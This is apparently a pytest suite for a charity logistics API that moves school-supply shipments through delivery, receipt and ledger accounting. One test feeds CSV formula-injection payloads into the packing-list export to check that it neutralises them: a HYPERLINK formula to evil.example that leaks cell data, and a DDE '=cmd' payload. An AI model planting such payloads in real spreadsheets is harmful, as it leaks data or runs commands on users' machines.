"""Shipments as a logistics partner works them, with only its API key: list, read, report events with proof and
per-package outcomes — and the money, the students' records and the merchants' trail follow the boxes."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta, timezone
from typing import Any

from app.core.csv_export import inert
from tests.helpers import (
    assert_problem,
    audit_ok,
    bearer,
    create_key,
    create_partner,
    formula_cells,
    get_order,
)
from tests.logistics.conftest import Shipping, proof
from tests.roster_codes import roster_code


async def test_a_partner_takes_a_shipment_from_hand_over_to_receipt_and_the_money_follows(
    shipping: Shipping,
) -> None:
    pool = shipping.pool
    tea = await pool.merchant("tea")
    await pool.collect([(tea, "T-1", 1500)])
    kind = await pool.kind(unit_cost={"amount": 500, "currency": "USD"})
    school, students = await pool.school(["1", "2", "3"])
    run = await pool.run(term="2027-T1", package_kind_id=kind["id"])
    assert run["packages"] == 3

    # The partner finds its shipment with its key alone, and reads what it needs: school, teacher, boxes.
    listed = (await shipping.client.get("/v1/shipments", headers=shipping.partner_key)).json()
    [summary] = listed["data"]
    assert (summary["status"], summary["package_count"], summary["school"]["id"]) == (
        "planned",
        3,
        school["id"],
    )
    shipment = await shipping.read(summary["id"])
    assert shipment["teacher_contact"] == {
        "name": "Sita Sharma",
        "phone": "+97714412345",
        "email": "sita@example.org",
    }
    assert sorted(p["grade"] for p in shipment["packages"]) == ["1", "2", "3"]
    assert shipment["packages"][0]["contents"] == [
        {"item": "Notebook", "quantity": 4},
        {"item": "Pencil", "quantity": 6},
    ]
    assert shipment["allowed_next"] == ["handed_over"]  # cancelling is the programme's
    seen = json.dumps(shipment)
    assert not any(s["id"] in seen or s["roster_code"] in seen for s in students)

    await shipping.walk(
        shipment["id"], ["handed_over", "in_transit", "customs_hold", "in_transit", "out_for_delivery"]
    )
    on_the_way = await shipping.read(shipment["id"])
    assert {p["status"] for p in on_the_way["packages"]} == {"shipped"}
    assert await shipping.balances() == {
        "allocated": 1500,
        "in_transit": 1500,
        "delivered": 0,
        "written_off": 0,
        "in_stock": 0,
        "released": 0,
    }

    pool.clock.advance(timedelta(hours=2))
    delivered_at = shipping.now()
    delivered = await shipping.post(
        shipment["id"], "delivered", location="Shree Janata School", proof=proof()
    )
    assert delivered.status_code == 201, delivered.text
    assert delivered.json()["proof"]["receiver_role"] == "teacher"
    assert delivered.json()["allowed_next"] == ["receipt_confirmed"]

    pool.clock.advance(timedelta(days=1))
    received_at = shipping.now()
    first, second, third = (p["id"] for p in shipment["packages"])
    receipt = await shipping.post(
        shipment["id"],
        "receipt_confirmed",
        packages=[
            {"package_id": first, "outcome": "accepted"},
            {"package_id": second, "outcome": "accepted"},
            {"package_id": third, "outcome": "damaged", "reason": "soaked in the rain, notebooks ruined"},
        ],
    )
    assert receipt.status_code == 201, receipt.text
    answer = receipt.json()
    assert (answer["result"], answer["status_before"], answer["status_after"]) == (
        "applied",
        "delivered",
        "receipt_confirmed",
    )
    assert answer["allowed_next"] == []

    done = await shipping.read(shipment["id"])
    assert done["status"] == "receipt_confirmed"
    assert [e["status"] for e in done["events"]] == [
        "handed_over",
        "in_transit",
        "customs_hold",
        "in_transit",
        "out_for_delivery",
        "delivered",
        "receipt_confirmed",
    ]
    assert {p["id"]: (p["status"], p["outcome_reason"]) for p in done["packages"]} == {
        first: ("accepted", None),
        second: ("accepted", None),
        third: ("damaged", "soaked in the rain, notebooks ruined"),
    }

    # Money: accepted boxes are delivered (disbursed), the damaged one written off, visibly; nothing in transit.
    assert await shipping.balances() == {
        "allocated": 1500,
        "in_transit": 0,
        "delivered": 1000,
        "written_off": 500,
        "in_stock": 0,
        "released": 0,
    }
    entries = await shipping.count(
        "SELECT count(*) FROM ledger_entries WHERE cause_type = 'shipment_event' AND cause_id = :id",
        id=answer["id"],
    )
    assert entries == 3
    await audit_ok(shipping.client, shipping.admin)

    # The students' records carry the outcome and both dates; the merchant's order trail reads "delivered".
    records = {}
    for student in students:
        [record] = (
            await shipping.client.get(f"/v1/students/{student['id']}/allocations", headers=shipping.admin)
        ).json()["data"]
        records[record["package_id"]] = record
    assert records[first]["status"] == "accepted" and records[third]["status"] == "damaged"
    assert all(r["delivered_at"] == delivered_at.isoformat().replace("+00:00", "Z") for r in records.values())
    assert all(
        r["receipt_confirmed_at"] == received_at.isoformat().replace("+00:00", "Z") for r in records.values()
    )
    trail = (await get_order(shipping.client, shipping.admin, pool.platform["id"], "T-1")).json()["trail"]
    assert sorted((t["delivery_status"], t["stage"]) for t in trail) == [
        ("accepted", "delivered"),
        ("accepted", "delivered"),
        ("damaged", "written_off"),
    ]
    assert all(t["delivered_at"] and t["receipt_confirmed_at"] for t in trail)
    package = (await pool.package(first)).json()
    assert package["status"] == "accepted" and package["receipt_confirmed_at"]


async def test_partners_see_only_their_own_shipments_and_never_a_student(shipping: Shipping) -> None:
    ours = await shipping.shipment(["1", "2"])
    other_partner = await create_partner(shipping.client, shipping.admin, name="Mekong Cargo")
    shipping.pool.partner = other_partner
    theirs = await shipping.shipment(["3"])
    other_key = bearer(
        (
            await create_key(
                shipping.client, shipping.admin, role="logistics", logistics_partner_id=other_partner["id"]
            )
        )["token"]
    )

    async def ids(headers: dict[str, str], **params: str) -> list[str]:
        response = await shipping.client.get("/v1/shipments", params=params, headers=headers)
        assert response.status_code == 200, response.text
        return [s["id"] for s in response.json()["data"]]

    assert await ids(shipping.partner_key) == [ours["id"]]
    assert await ids(other_key) == [theirs["id"]]
    assert await ids(shipping.admin) == [ours["id"], theirs["id"]]
    assert await ids(shipping.admin, logistics_partner_id=other_partner["id"]) == [theirs["id"]]
    assert await ids(shipping.partner_key, logistics_partner_id=other_partner["id"]) == []
    # Another partner's shipment does not exist for this key: reads, events, the packing list.
    assert_problem(
        await shipping.client.get(f"/v1/shipments/{theirs['id']}", headers=shipping.partner_key),
        404,
        "not-found",
    )
    assert_problem(await shipping.post(theirs["id"], "handed_over"), 404, "not-found")
    assert_problem(
        await shipping.client.get("/v1/shipments/shp_nothing", headers=shipping.admin), 404, "not-found"
    )
    assert (await shipping.read(theirs["id"], other_key))["status"] == "planned"
    # Merchants and platforms have no business here.
    shop = await shipping.pool.merchant()
    merchant_key = bearer(
        (await create_key(shipping.client, shipping.admin, role="merchant", merchant_id=shop["id"]))["token"]
    )
    assert_problem(await shipping.client.get("/v1/shipments", headers=merchant_key), 403, "forbidden")
    assert_problem(await shipping.post(ours["id"], "handed_over", headers=merchant_key), 403, "forbidden")
    # The packing list (roster codes, for the teacher) is the programme's alone.
    assert_problem(
        await shipping.client.get(f"/v1/shipments/{ours['id']}/packing-list", headers=shipping.partner_key),
        403,
        "forbidden",
    )
    packing = await shipping.client.get(f"/v1/shipments/{ours['id']}/packing-list", headers=shipping.admin)
    assert packing.status_code == 200 and packing.headers["content-type"].startswith("text/csv")
    assert packing.headers["cache-control"] == "no-store"
    lines = packing.text.splitlines()
    assert lines[0] == "package_id,package,grade,roster_code" and len(lines) == 3
    students = (
        await shipping.client.get(f"/v1/schools/{ours['school']['id']}/students", headers=shipping.admin)
    ).json()["data"]
    codes = {s["roster_code"] for s in students}
    assert {line.split(",")[-1] for line in lines[1:]} == codes
    # Nothing a partner reads names a student.
    seen = json.dumps(await shipping.read(ours["id"])) + json.dumps(
        (await shipping.client.get("/v1/shipments", headers=shipping.partner_key)).json()
    )
    assert not any(s["id"] in seen or s["roster_code"] in seen for s in students)
    assert "student" not in seen


async def test_the_packing_list_opens_as_text_in_any_spreadsheet(shipping: Shipping) -> None:
    """A kind's name and a school's roster codes are whatever people typed; the teacher's spreadsheet must not run
    them, whether it splits the file on commas or on semicolons (Excel in Indonesia)."""
    kind = await shipping.pool.kind(
        name='=HYPERLINK("http://evil.example/?"&D2,"Open")', unit_cost={"amount": 500, "currency": "USD"}
    )
    # Roster codes start with the suite's mark (see tests.roster_codes); the formula comes after a separator.
    codes = [roster_code(';=HYPERLINK("http://evil.example")'), roster_code("INV-7;=cmd|'/Ccalc'!A0;")]
    shipment = await shipping.shipment(["1", "2"], kind=kind, codes=codes)
    packing = await shipping.client.get(
        f"/v1/shipments/{shipment['id']}/packing-list", headers=shipping.admin
    )
    assert packing.status_code == 200
    assert formula_cells(packing.text) == []
    header, *rows = list(csv.reader(io.StringIO(packing.text, newline="")))
    assert header == ["package_id", "package", "grade", "roster_code"] and len(rows) == 2
    assert {row[1] for row in rows} == {'\'=HYPERLINK("http://evil.example/?"&D2,"Open")'}
    assert sorted(row[3] for row in rows) == sorted(inert(code) for code in codes)
    assert "rc~INV-7;'=cmd|'/Ccalc'!A0;" in {row[3] for row in rows}
    assert {row[2] for row in rows} == {"1", "2"}


async def test_filters_by_status_school_country_and_staleness(shipping: Shipping) -> None:
    nepal = await shipping.shipment(["1"])
    cambodia_kind = await shipping.pool.kind(countries=["KH"], unit_cost={"amount": 500, "currency": "USD"})
    shop = await shipping.pool.merchant()
    await shipping.pool.collect([(shop, "O-KH", 500)])
    school, _ = await shipping.pool.school(
        ["2"],
        country="KH",
        region="Siem Reap",
        teacher_contact={"name": "Sok Dara", "email": "dara@example.org"},
    )
    run = await shipping.pool.run(term="2027-T1", package_kind_id=cambodia_kind["id"])
    cambodia = run["schools"][0]["shipment_id"]

    async def ids(**params: str) -> list[str]:
        response = await shipping.client.get("/v1/shipments", params=params, headers=shipping.partner_key)
        assert response.status_code == 200, response.text
        return [s["id"] for s in response.json()["data"]]

    assert await ids(country="KH") == [cambodia]
    assert await ids(school_id=school["id"]) == [cambodia]
    await shipping.walk(nepal["id"], ["handed_over"])
    assert await ids(status="handed_over") == [nepal["id"]]
    assert await ids(status="planned") == [cambodia]
    assert await ids(stale="true") == []

    # Fifteen days without a word: both are stale (a planned one too: nobody picked it up).
    shipping.pool.clock.advance(timedelta(days=15))
    assert await ids(stale="true") == [nepal["id"], cambodia]
    listed = (await shipping.client.get("/v1/shipments", headers=shipping.partner_key)).json()["data"]
    assert all(s["stale"] for s in listed)
    # An event brings one back; a final state is never stale.
    await shipping.walk(nepal["id"], ["in_transit"])
    assert await ids(stale="true") == [cambodia]
    assert await ids(stale="false") == [nepal["id"]]
    cancel = await shipping.post(cambodia, "cancelled", headers=shipping.admin)
    assert cancel.status_code == 201, cancel.text
    assert await ids(stale="true") == []
    for bad in ({"status": "lost"}, {"country": "XX"}, {"stale": "maybe"}, {"school_id": "a/b"}):
        assert_problem(
            await shipping.client.get("/v1/shipments", params=bad, headers=shipping.partner_key),
            422,
            "invalid-request",
        )


async def test_an_event_id_sent_again_gets_the_first_answer_and_other_content_is_a_conflict(
    shipping: Shipping,
) -> None:
    shipment = await shipping.shipment(["1"])
    at = shipping.now()
    first = await shipping.post(
        shipment["id"], "handed_over", event_id="HX-1", at=at, location="Kathmandu hub"
    )
    assert first.status_code == 201 and first.json()["result"] == "applied"
    assert "idempotent-replayed" not in first.headers
    # The same event, the time written in another zone: the first answer, marked as a replay, nothing new.
    again = await shipping.client.post(
        f"/v1/shipments/{shipment['id']}/events",
        json={
            "location": "Kathmandu hub",
            "occurred_at": at.astimezone(timezone(timedelta(hours=5, minutes=45))).isoformat(),  # Kathmandu
            "status": "handed_over",
            "event_id": "HX-1",
        },
        headers=shipping.partner_key,
    )
    assert (again.status_code, again.json()) == (201, first.json())
    assert again.headers["idempotent-replayed"] == "true"
    # Also after the shipment moved on: still the first answer (status then, not now).
    await shipping.walk(shipment["id"], ["in_transit"])
    later = await shipping.post(
        shipment["id"], "handed_over", event_id="HX-1", at=at, location="Kathmandu hub"
    )
    assert later.json() == first.json() and later.json()["status_after"] == "handed_over"
    # The same id with anything else is refused, and changes nothing.
    for other in ({"location": "Pokhara"}, {"at": at + timedelta(minutes=1)}, {"note": "late pick-up"}):
        conflict = await shipping.post(
            shipment["id"], "handed_over", event_id="HX-1", **{"location": "Kathmandu hub", "at": at, **other}
        )
        assert "HX-1" in assert_problem(conflict, 409, "event-id-reused")["detail"]
    assert_problem(
        await shipping.post(shipment["id"], "in_transit", event_id="HX-1", at=at), 409, "event-id-reused"
    )
    history = (await shipping.read(shipment["id"]))["events"]
    assert [(e["event_id"], e["status"]) for e in history] == [
        ("HX-1", "handed_over"),
        (history[1]["event_id"], "in_transit"),
    ]
    # Event ids are the partner's own per shipment: the same id on another shipment is another event.
    other = await shipping.shipment(["2"])
    assert (await shipping.post(other["id"], "handed_over", event_id="HX-1")).json()["result"] == "applied"


async def test_a_transition_the_machine_does_not_allow_is_a_409_naming_what_may_follow(
    shipping: Shipping,
) -> None:
    shipment = await shipping.shipment(["1", "2"])
    skipped = assert_problem(await shipping.post(shipment["id"], "in_transit"), 409, "illegal-transition")
    assert skipped["current_status"] == "planned" and skipped["allowed_next"] == ["handed_over"]
    assert "Allowed next: handed_over" in skipped["detail"]
    # Only the programme cancels: a partner is refused whatever the state.
    assert_problem(await shipping.post(shipment["id"], "cancelled"), 403, "forbidden")
    await shipping.walk(shipment["id"], ["handed_over", "in_transit", "out_for_delivery"])
    back = assert_problem(await shipping.post(shipment["id"], "handed_over"), 409, "illegal-transition")
    assert (back["current_status"], back["allowed_next"]) == (
        "out_for_delivery",
        ["delivered", "delivery_failed"],
    )
    assert_problem(
        await shipping.post(shipment["id"], "cancelled", headers=shipping.admin), 409, "illegal-transition"
    )
    await shipping.walk(shipment["id"], ["delivered"])
    # Proof is given once: a second delivery is refused, not recorded as a scan.
    assert_problem(await shipping.post(shipment["id"], "delivered"), 409, "illegal-transition")
    outcomes = [{"package_id": p["id"], "outcome": "accepted"} for p in shipment["packages"]]
    shipping.pool.clock.advance(timedelta(hours=1))
    assert (await shipping.post(shipment["id"], "receipt_confirmed", packages=outcomes)).status_code == 201
    money = await shipping.balances()
    # Nothing leaves a final state: a new receipt with other outcomes, a return, anything.
    shipping.pool.clock.advance(timedelta(hours=1))
    other_outcomes = [
        {"package_id": p["id"], "outcome": "missing", "reason": "not found"} for p in shipment["packages"]
    ]
    final = assert_problem(
        await shipping.post(shipment["id"], "receipt_confirmed", packages=other_outcomes),
        409,
        "illegal-transition",
    )
    assert final["allowed_next"] == [] and "nothing (a final status)" in final["detail"]
    for status in ("returned", "in_transit", "delivered"):
        assert_problem(await shipping.post(shipment["id"], status), 409, "illegal-transition")
    assert await shipping.balances() == money
    assert (await shipping.read(shipment["id"]))["status"] == "receipt_confirmed"
    await audit_ok(shipping.client, shipping.admin)


async def test_late_events_are_kept_in_history_and_never_move_the_shipment_back(shipping: Shipping) -> None:
    shipment = await shipping.shipment(["1"])
    start = shipping.now()
    await shipping.walk(shipment["id"], ["handed_over", "in_transit", "out_for_delivery"])
    ofd_at = shipping.now()
    # A scan that happened before the van left arrives now: recorded, the status stays.
    late = await shipping.post(
        shipment["id"], "customs_hold", at=ofd_at - timedelta(minutes=30), note="x-ray"
    )
    assert late.status_code == 201
    assert (late.json()["result"], late.json()["reason"]) == ("recorded", "older_than_current_status")
    assert late.json()["status_before"] == late.json()["status_after"] == "out_for_delivery"
    # Another scan of the current status is a tracking update: kept, nothing moves.
    scan = await shipping.post(shipment["id"], "out_for_delivery", location="Bhaktapur")
    assert (scan.json()["result"], scan.json()["reason"]) == ("recorded", "repeats_current_status")
    # Even a status the machine could never reach from here is only recorded when it is old news.
    old = await shipping.post(shipment["id"], "returned", at=start + timedelta(minutes=1))
    assert old.json()["result"] == "recorded"
    money = await shipping.balances()
    assert (money["in_transit"], money["in_stock"]) == (500, 0)
    await shipping.walk(shipment["id"], ["delivered"])
    [package] = shipment["packages"]
    shipping.pool.clock.advance(timedelta(hours=1))
    confirmed = await shipping.post(
        shipment["id"], "receipt_confirmed", packages=[{"package_id": package["id"], "outcome": "accepted"}]
    )
    assert confirmed.json()["result"] == "applied"
    # After the final state, late events are still kept, and change nothing.
    very_late = await shipping.post(shipment["id"], "delivery_failed", at=ofd_at + timedelta(minutes=1))
    assert very_late.json()["result"] == "recorded"
    read = await shipping.read(shipment["id"])
    assert read["status"] == "receipt_confirmed"
    assert [(e["status"], e["result"]) for e in read["events"]] == [
        ("handed_over", "applied"),
        ("in_transit", "applied"),
        ("out_for_delivery", "applied"),
        ("customs_hold", "recorded"),
        ("out_for_delivery", "recorded"),
        ("returned", "recorded"),
        ("delivered", "applied"),
        ("receipt_confirmed", "applied"),
        ("delivery_failed", "recorded"),
    ]
    assert (
        read["last_event_at"] == read["events"][-2]["occurred_at"]
    )  # the latest occurrence, not the latest post
    await audit_ok(shipping.client, shipping.admin)


async def test_invalid_events_are_422_and_change_nothing(shipping: Shipping) -> None:
    shipment = await shipping.shipment(["1", "2"])
    path = f"/v1/shipments/{shipment['id']}/events"
    await shipping.walk(shipment["id"], ["handed_over", "in_transit", "out_for_delivery"])
    before = (await shipping.read(shipment["id"]), await shipping.balances())
    now = shipping.now()
    good = {"event_id": "E-x", "status": "delivered", "occurred_at": now.isoformat(), "proof": proof()}

    def variant(**changes: object) -> dict[str, object]:
        return {**good, **changes}

    def with_proof(**changes: object) -> dict[str, object]:
        return {**good, "proof": {**proof(), **changes}}

    bad_bodies = [
        variant(occurred_at=(now + timedelta(minutes=6)).isoformat()),  # ahead of the clock
        variant(occurred_at="2026-12-01T08:00:00"),  # no offset
        variant(occurred_at=1764576000),
        {k: v for k, v in good.items() if k != "proof"},  # delivered without proof
        variant(status="in_transit"),  # proof where it does not belong
        variant(event_id=""),
        variant(event_id="has space"),
        variant(status="planned"),
        variant(status="lost"),
        variant(note="nul\x00byte"),
        variant(location="x" * 201),
        variant(extra="field"),
        with_proof(receiver_name=""),
        with_proof(receiver_role="\n"),
        with_proof(evidence={"url": "http://evidence.example.org/1.jpg", "sha256": "a" * 64}),
        with_proof(evidence={"url": "https://user:pw@evidence.example.org/1.jpg", "sha256": "a" * 64}),
        with_proof(evidence={"url": "https://evidence.example.org/1.jpg", "sha256": "a" * 63}),
        with_proof(evidence={"url": "https://evidence.example.org/1.jpg", "sha256": "g" * 64}),
        with_proof(evidence={"url": "https://evidence.example.org/1.jpg"}),
        with_proof(gps={"lat": 90.5, "lon": 85}),
        with_proof(gps={"lat": 27.7, "lon": -180.01}),
        with_proof(gps={"lat": "27.7", "lon": 85}),
        with_proof(gps={"lat": True, "lon": 85}),
    ]
    for body in bad_bodies:
        response = await shipping.client.post(path, json=body, headers=shipping.partner_key)
        assert_problem(response, 422, "invalid-request")
    ahead = await shipping.client.post(path, json=bad_bodies[0], headers=shipping.partner_key)
    assert ahead.json()["errors"][0]["loc"] == ["body", "occurred_at"]
    assert (await shipping.read(shipment["id"]), await shipping.balances()) == before
    # Four minutes ahead is within the tolerance for clocks.
    ok = await shipping.client.post(
        path, json=variant(occurred_at=(now + timedelta(minutes=4)).isoformat()), headers=shipping.partner_key
    )
    assert ok.status_code == 201, ok.text

    # A receipt must account for every box of the shipment, and only those.
    first, second = (p["id"] for p in shipment["packages"])
    shipping.pool.clock.advance(timedelta(hours=1))
    receipts = [
        [{"package_id": first, "outcome": "accepted"}],  # one box unaccounted for
        [
            {"package_id": first, "outcome": "accepted"},
            {"package_id": second, "outcome": "accepted"},
            {"package_id": "pkg_someone_elses", "outcome": "accepted"},
        ],
        [
            {"package_id": first, "outcome": "accepted"},
            {"package_id": first, "outcome": "damaged", "reason": "x"},
        ],
        [
            {"package_id": first, "outcome": "accepted"},
            {"package_id": second, "outcome": "missing"},
        ],  # no reason
        [
            {"package_id": first, "outcome": "accepted", "reason": "fine"},
            {"package_id": second, "outcome": "accepted"},
        ],
        [{"package_id": first, "outcome": "opened"}, {"package_id": second, "outcome": "accepted"}],
        [],
    ]
    for packages in receipts:
        response = await shipping.post(shipment["id"], "receipt_confirmed", packages=packages)
        assert_problem(response, 422, "invalid-request")
    missing = await shipping.post(shipment["id"], "receipt_confirmed", packages=receipts[0])
    assert second in missing.json()["errors"][0]["msg"]
    no_outcomes = await shipping.post(shipment["id"], "receipt_confirmed")
    assert_problem(no_outcomes, 422, "invalid-request")
    assert_problem(
        await shipping.post(shipment["id"], "in_transit", packages=receipts[1][:2]), 422, "invalid-request"
    )
    read = await shipping.read(shipment["id"])
    assert read["status"] == "delivered" and len(read["events"]) == 4
    assert await shipping.balances() == before[1]


async def _records(shipping: Shipping, students: list[dict[str, Any]]) -> dict[str, list[dict[str, Any]]]:
    records = {}
    for student in students:
        page = await shipping.client.get(f"/v1/students/{student['id']}/allocations", headers=shipping.admin)
        records[student["id"]] = page.json()["data"]
    return records


async def test_returned_boxes_go_back_to_stock_and_to_the_next_students_before_new_money(
    shipping: Shipping,
) -> None:
    pool = shipping.pool
    shop = await pool.merchant()
    await pool.collect([(shop, "O-1", 1000)])
    kind = await pool.kind(unit_cost={"amount": 500, "currency": "USD"})
    _, (ann, ben) = await pool.school(["1", "1"])
    run = await pool.run(term="2027-T1", package_kind_id=kind["id"])
    shipment_id = run["schools"][0]["shipment_id"]
    boxes = {p["id"] for p in (await shipping.read(shipment_id))["packages"]}
    await shipping.walk(
        shipment_id,
        [
            "handed_over",
            "in_transit",
            "out_for_delivery",
            "delivery_failed",
            "out_for_delivery",
            "delivery_failed",
        ],
    )
    await shipping.walk(shipment_id, ["returning", "returned"])
    money = await shipping.balances()
    assert (money["allocated"], money["in_transit"], money["in_stock"]) == (1000, 0, 1000)
    records = await _records(shipping, [ann, ben])
    assert {r[0]["status"] for r in records.values()} == {"returned"}
    listed = (await pool.client.get("/v1/packages", params={"status": "in_stock"}, headers=pool.admin)).json()
    assert {p["id"] for p in listed["data"]} == boxes
    assert all(p["school_id"] is None and p["shipment_id"] is None for p in listed["data"])
    await audit_ok(shipping.client, shipping.admin)

    # New money and a new student arrive. The next run of the kind gives the two boxes in stock first (to the
    # students whose box came back, and to the new one in turn), and spends new money only on the third box.
    await pool.collect([(shop, "O-2", 600)])
    cara = (await pool.school(["2"]))[1][0]
    pool_before = (await pool.funds())["pool"]["amount"]
    again = await pool.run(term="2027-T1", package_kind_id=kind["id"])
    assert (again["packages"], again["from_stock"], again["new_packages"]) == (3, 2, 1)
    assert again["money_spent"]["amount"] == 500 and again["pool_before"]["amount"] == pool_before == 600
    reused = {
        r["package_id"]: r["from_stock"]
        for rs in (await _records(shipping, [ann, ben, cara])).values()
        for r in rs
        if r["status"] == "allocated"
    }
    assert {p for p, from_stock in reused.items() if from_stock} == boxes
    money = await shipping.balances()
    assert (money["allocated"], money["in_transit"], money["in_stock"]) == (1500, 1500, 0)
    # Stock boxes keep the money that first paid for them.
    for box in boxes:
        funding = (await pool.package(box)).json()["funding"]
        assert [(f["order_id"], f["amount"]["amount"]) for f in funding] == [("O-1", 500)]
    await audit_ok(shipping.client, shipping.admin)


async def test_a_cancelled_planned_shipment_gives_its_money_back_and_its_students_are_served_again(
    shipping: Shipping,
) -> None:
    pool = shipping.pool
    shop = await pool.merchant()
    await pool.collect([(shop, "O-1", 1000)])
    kind = await pool.kind(unit_cost={"amount": 500, "currency": "USD"})
    _, students = await pool.school(["1", "2"])
    run = await pool.run(term="2027-T1", package_kind_id=kind["id"])
    shipment_id = run["schools"][0]["shipment_id"]
    assert (await pool.funds())["pool"]["amount"] == 0

    cancelled = await shipping.post(
        shipment_id, "cancelled", headers=shipping.admin, note="school closed by floods"
    )
    assert cancelled.status_code == 201, cancelled.text
    assert (cancelled.json()["posted_by"], cancelled.json()["status_after"]) == ("programme", "cancelled")
    funds = await pool.funds()
    assert funds["pool"]["amount"] == 1000
    assert {k: v["amount"] for k, v in funds["packages"].items()} == {
        "allocated": 0,
        "in_transit": 0,
        "delivered": 0,
        "written_off": 0,
        "in_stock": 0,
        "released": 1000,
    }
    entries = await shipping.count(
        "SELECT count(*) FROM ledger_entries WHERE cause_type = 'shipment_event' AND cause_id = :id",
        id=cancelled.json()["id"],
    )
    assert entries == 2
    assert {r[0]["status"] for r in (await _records(shipping, students)).values()} == {"cancelled"}
    trail = (await get_order(shipping.client, shipping.admin, pool.platform["id"], "O-1")).json()["trail"]
    # The cancelled boxes leave the order's trail: their money is back in the pool, unspent.
    assert trail == []
    await audit_ok(shipping.client, shipping.admin)
    assert_problem(await shipping.post(shipment_id, "handed_over"), 409, "illegal-transition")

    # The students are eligible again, and the released money pays for their new boxes (the same order's money).
    again = await pool.run(term="2027-T1", package_kind_id=kind["id"])
    assert (again["packages"], again["new_packages"], again["money_spent"]["amount"]) == (2, 2, 1000)
    records = await _records(shipping, students)
    assert all([r["status"] for r in rs] == ["cancelled", "allocated"] for rs in records.values())
    for rs in records.values():
        funding = (await pool.package(rs[1]["package_id"])).json()["funding"]
        assert [(f["order_id"], f["amount"]["amount"]) for f in funding] == [("O-1", 500)]
    trail = (await get_order(shipping.client, shipping.admin, pool.platform["id"], "O-1")).json()["trail"]
    assert sorted(t["package_id"] for t in trail) == sorted(rs[1]["package_id"] for rs in records.values())
    assert sum(t["share"]["amount"] for t in trail) == 1000
    await audit_ok(shipping.client, shipping.admin)


async def test_cancelling_a_shipment_of_stock_boxes_puts_them_back_in_stock(shipping: Shipping) -> None:
    pool = shipping.pool
    shop = await pool.merchant()
    await pool.collect([(shop, "O-1", 500)])
    kind = await pool.kind(unit_cost={"amount": 500, "currency": "USD"})
    _, (ann,) = await pool.school(["1"])
    first = (await pool.run(term="2027-T1", package_kind_id=kind["id"]))["schools"][0]["shipment_id"]
    await shipping.walk(
        first, ["handed_over", "in_transit", "out_for_delivery", "delivery_failed", "returning"]
    )
    await shipping.walk(first, ["returned"])
    second = (await pool.run(term="2027-T1", package_kind_id=kind["id"]))["schools"][0]["shipment_id"]
    assert (await shipping.balances())["in_transit"] == 500
    cancel = await shipping.post(second, "cancelled", headers=shipping.admin)
    assert cancel.status_code == 201, cancel.text
    money = await shipping.balances()
    assert (money["in_stock"], money["released"], money["allocated"]) == (500, 0, 500)
    assert (await pool.funds())["pool"]["amount"] == 0
    assert [r["status"] for r in (await _records(shipping, [ann]))[ann["id"]]] == ["returned", "cancelled"]
    await audit_ok(shipping.client, shipping.admin)


async def test_a_student_whose_box_was_damaged_comes_first_in_the_next_run_of_the_term(
    shipping: Shipping,
) -> None:
    pool = shipping.pool
    shop = await pool.merchant()
    await pool.collect([(shop, "O-1", 1000)])
    kind = await pool.kind(unit_cost={"amount": 500, "currency": "USD"})
    _, (ann, ben, cara, dev) = await pool.school(["1", "1", "1", "1"])
    run = await pool.run(term="2027-T1", package_kind_id=kind["id"])
    shipment = await shipping.read(run["schools"][0]["shipment_id"])
    await shipping.walk(shipment["id"], ["handed_over", "in_transit", "out_for_delivery", "delivered"])
    records = await _records(shipping, [ann, ben])
    ann_box, ben_box = records[ann["id"]][0]["package_id"], records[ben["id"]][0]["package_id"]
    shipping.pool.clock.advance(timedelta(hours=1))
    receipt = await shipping.post(
        shipment["id"],
        "receipt_confirmed",
        packages=[
            {"package_id": ann_box, "outcome": "accepted"},
            {"package_id": ben_box, "outcome": "missing", "reason": "not in the delivery"},
        ],
    )
    assert receipt.status_code == 201, receipt.text
    assert (await shipping.balances())["written_off"] == 500

    # One box's worth of money: Ben (lost this term) before Cara and Dev (never received one).
    await pool.collect([(shop, "O-2", 500)])
    again = await pool.run(term="2027-T1", package_kind_id=kind["id"])
    assert again["packages"] == 1 and again["students_waiting"] == 2
    records = await _records(shipping, [ben, cara, dev])
    assert [r["status"] for r in records[ben["id"]]] == ["missing", "allocated"]
    assert (records[ben["id"]][1]["reason"], records[ben["id"]][1]["rank"]) == ("replacement", 1)
    assert records[cara["id"]] == records[dev["id"]] == []
    await audit_ok(shipping.client, shipping.admin)


async def test_a_receipt_for_thousands_of_boxes_fits_and_a_larger_body_does_not(shipping: Shipping) -> None:
    outcomes = [
        {"package_id": f"pkg_{n:026d}", "outcome": "damaged", "reason": "carton crushed in the truck " * 10}
        for n in range(4_000)
    ]
    body = {"event_id": "R-1", "status": "receipt_confirmed", "occurred_at": shipping.now().isoformat()}
    # More than the usual 1 MiB of outcomes is read and validated (then: no such shipment) ...
    big = await shipping.client.post(
        "/v1/shipments/shp_nothing/events", json=body | {"packages": outcomes}, headers=shipping.admin
    )
    assert len(big.request.content) > 1_200_000
    assert_problem(big, 404, "not-found")
    # ... and over 8 MiB is refused before it is read.
    huge = await shipping.client.post(
        "/v1/shipments/shp_nothing/events", json=body | {"note": "x" * 9_000_000}, headers=shipping.admin
    )
    assert_problem(huge, 413, "payload-too-large")


async def test_a_body_over_the_json_limits_is_refused_whole_and_changes_nothing(shipping: Shipping) -> None:
    shipment = await shipping.shipment(["1"])
    before = await shipping.read(shipment["id"])
    event = {"event_id": "E-limits", "status": "handed_over", "occurred_at": shipping.now().isoformat()}
    url = f"/v1/shipments/{shipment['id']}/events"
    prefix = json.dumps(event)[:-1].encode() + b', "packages": '
    many = prefix + b"[" + b",".join([b"[]"] * 100_000) + b"]}"  # about 300 KiB, 100,006 values
    deep = prefix + b"[" * 40 + b"]" * 40 + b"}"
    for body, status, kind in ((many, 413, "payload-too-large"), (deep, 422, "invalid-request")):
        response = await shipping.client.post(
            url, content=body, headers={**shipping.partner_key, "content-type": "application/json"}
        )
        assert_problem(response, status, kind)
    assert await shipping.read(shipment["id"]) == before
    # Nothing of it was kept: the same event id with a sound body is applied as new.
    applied = await shipping.client.post(url, json=event, headers=shipping.partner_key)
    assert applied.status_code == 201, applied.text
    assert applied.json()["result"] == "applied"


async def test_the_largest_receipt_is_within_the_json_limits(shipping: Shipping) -> None:
    outcomes = [
        {"package_id": f"pkg_{n:026d}", "outcome": "damaged", "reason": "crushed"} for n in range(10_000)
    ]
    body = {"event_id": "R-1", "status": "receipt_confirmed", "occurred_at": shipping.now().isoformat()}
    response = await shipping.client.post(
        "/v1/shipments/shp_nothing/events", json=body | {"packages": outcomes}, headers=shipping.admin
    )
    assert_problem(response, 404, "not-found")  # read and validated: only the shipment is missing
